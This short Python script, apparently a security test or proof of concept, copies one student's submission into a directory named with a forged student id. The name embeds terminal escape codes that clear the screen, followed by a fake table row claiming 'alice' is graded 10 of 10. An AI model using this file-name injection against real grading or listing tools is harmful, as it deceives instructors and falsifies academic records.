# A copy of bob's submission under a student id that clears the screen and forges a table row.
import os
import shutil
import sys

course = sys.argv[1]
forged = "eve\x1b[2J\x1b[H\nalice           graded        10 of 10"
shutil.copytree(os.path.join(course, "submitted", "bob", "ps1"),
                os.path.join(course, "submitted", forged, "ps1"))
